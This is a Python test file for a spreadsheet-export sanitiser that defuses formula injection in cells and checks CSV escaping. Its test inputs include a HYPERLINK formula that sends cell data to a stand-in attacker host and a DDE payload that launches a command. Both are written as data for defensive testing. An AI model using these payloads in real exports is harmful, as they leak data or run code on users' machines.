"""No cell is a formula, whatever a member wrote into it."""

from __future__ import annotations

import pytest

from fluxsite import spreadsheets


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tcat", "\rcat"),
        *("＝1", "＋1", "－1", "＠1"),
        *(" =1", "   @x", "\u3000=1", "\u00a0=1", "\u200b=1", "\ufeff=1", " \u200b =1", "\x01=1"),
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_what_would_be_a_formula_is_made_a_text(text):
    assert spreadsheets.harmless(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "a cat", "一只猫", "a=b", "1-2", "me@example.org", "'=1", '"=1"', " a - b", "…"]
)
def test_an_ordinary_text_stays_as_it_is(text):
    assert spreadsheets.harmless(text) == text


def test_numbers_stay_numbers_and_texts_of_numbers_are_texts():
    assert spreadsheets.lines([[-20, 1.5, 0, None, "-20", "20"]]) == "-20,1.5,0,,'-20,20\r\n"


def test_commas_quotes_and_line_ends_stay_inside_their_cell():
    assert spreadsheets.lines([['a,"b"\nc', "d"]]) == '"a,""b""\nc",d\r\n'


def test_a_nul_does_not_end_the_file():
    assert spreadsheets.lines([["a\0b"]]) == "a�b\r\n"
